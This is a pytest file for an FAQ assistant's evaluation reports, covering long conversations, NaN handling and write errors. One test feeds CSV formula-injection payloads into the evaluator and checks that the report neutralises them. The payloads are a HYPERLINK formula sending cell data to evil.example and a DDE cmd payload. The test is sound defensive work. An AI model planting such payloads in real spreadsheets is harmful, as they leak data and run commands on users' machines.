"""Evaluation on hostile question sets and data: a 10,000-turn conversation, cells a spreadsheet would
run as formulas, and figures that are not numbers. The report's files must stay readable and safe."""

from __future__ import annotations

import csv
import json
import shutil

import pytest
from conftest import DATA

from assistant import Retriever
from assistant.config import MAX_HISTORY
from assistant.evaluation.evaluate import evaluate
from assistant.evaluation.metrics import Outcome, compute_metrics
from assistant.evaluation.questionsets import read_question_set
from assistant.evaluation.report import write_report

TURNS = 10_000


@pytest.fixture(scope="module")
def widget(embedder, tmp_path_factory):
    """A Retriever over the 4-entry Markdown test FAQ, with the session's real model."""
    folder = tmp_path_factory.mktemp("widget")
    shutil.copy(DATA / "faq.md", folder / "faq.md")
    return Retriever.load(folder / "index", corpus=folder / "faq.md", embedder=embedder)


def _long_conversation(path, turns: int) -> None:
    pairs = [("How do I install the widget?", "How do I install the widget?"),
             ("and can I use it offline?", "Can I use the widget offline?")]
    row = {"turns": [pairs[i % 2][0] for i in range(turns)], "expected": [pairs[i % 2][1] for i in range(turns)]}
    path.write_text(json.dumps(row) + "\n", encoding="utf-8")


def test_a_10000_turn_conversation_keeps_the_chats_history_per_turn(tmp_path):
    # Every turn carried all the turns before it (50 million references: 1.2 GB, then a crash).
    path = tmp_path / "long.jsonl"
    _long_conversation(path, TURNS)
    questions = read_question_set(path).questions
    assert len(questions) == TURNS
    assert [q.turn for q in questions] == list(range(1, TURNS + 1))
    assert max(len(q.history) for q in questions) == MAX_HISTORY
    last = questions[-1]
    assert list(last.history) == [q.query for q in questions[-MAX_HISTORY - 1 : -1]]


@pytest.mark.slow
def test_a_10000_turn_conversation_is_evaluated_whole(widget, tmp_path):
    path = tmp_path / "long.jsonl"
    _long_conversation(path, TURNS)
    report = evaluate(widget, read_question_set(path), k=3)
    write_report(report, tmp_path / "report")
    assert report.metrics.questions == TURNS and report.metrics.follow_ups == TURNS - 1
    assert report.metrics.accuracy == 1.0  # each follow-up read with the turn before it
    assert report.results[-1].turn == TURNS
    # What the results keep grows with the turns, not with their square (50 million history items before).
    assert sum(len(r.history) for r in report.results) <= TURNS * MAX_HISTORY
    assert (tmp_path / "report" / "results.jsonl").stat().st_size < 20 * 2**20


def test_cells_a_spreadsheet_would_run_are_written_as_text(widget, tmp_path):
    path = tmp_path / "formulas.csv"
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
                "\t=1+1", "=cmd|' /C calc'!A0"]
    rows = [["Question", "Expected"]] + [[f, ""] for f in formulas] + [["How do I install the widget?",
                                                                        "How do I install the widget?"]]
    with open(path, "w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(rows)
    write_report(evaluate(widget, read_question_set(path), k=2), tmp_path / "report")
    with open(tmp_path / "report" / "results.csv", newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    text_cells = [c for c in cells if c and not c.replace(".", "").replace("-", "").isdigit()]
    assert not [c for c in text_cells if c[0] in "=+-@\t\r"], "a cell a spreadsheet would run"
    with open(tmp_path / "report" / "results.csv", newline="", encoding="utf-8") as handle:
        asked = [row["query"] for row in csv.DictReader(handle)]
    assert asked[: len(formulas)] == ["'" + f.strip() for f in formulas]  # shown, not run
    results = (tmp_path / "report" / "results.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["query"] for line in results[: len(formulas)]] == [f.strip() for f in formulas]


def test_figures_that_are_not_numbers_are_written_as_null(tmp_path, widget):
    metrics = compute_metrics([Outcome(("a",), frozenset({"a"}), True, confidence=float("nan"))])
    assert json.loads(json.dumps(metrics.to_dict()))  # no NaN written for a NaN score
    report = evaluate(widget, read_question_set(DATA / "eval" / "questions.jsonl"), k=2)
    report.settings["min_confidence"] = float("nan")  # as an unvalidated setting reached the report before
    report.results[0].hits[0] = type(report.results[0].hits[0])("x", "q", float("nan"))
    write_report(report, tmp_path / "report")
    strict = dict(parse_constant=lambda name: pytest.fail(f"{name} in a JSON file"))
    metrics_json = json.loads((tmp_path / "report" / "metrics.json").read_text(), **strict)
    assert metrics_json["settings"]["min_confidence"] is None
    first = json.loads((tmp_path / "report" / "results.jsonl").read_text().splitlines()[0], **strict)
    assert first["hits"][0]["score"] is None


def test_a_report_folder_that_cannot_be_written_is_one_line(tmp_path, capsys):
    from assistant.cli import main

    (tmp_path / "out").write_text("a file where the report folder should be")
    code = main(["eval", str(DATA / "eval" / "questions.jsonl"), "--corpus", str(tmp_path / "none"),
                 "--index", str(tmp_path / "index"), "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert code == 1 and err == f"error: --out {tmp_path / 'out'} is a file; give a folder for the report\n"


def test_a_report_that_fails_to_write_is_an_error_not_a_traceback(widget, tmp_path):
    from assistant import AssistantError
    from assistant.evaluation.report import write_reports

    report = evaluate(widget, read_question_set(DATA / "eval" / "questions.jsonl"), k=2)
    (tmp_path / "blocker").write_text("a file")
    with pytest.raises(AssistantError, match="cannot write the report into"):
        write_reports([report], tmp_path / "blocker" / "report")
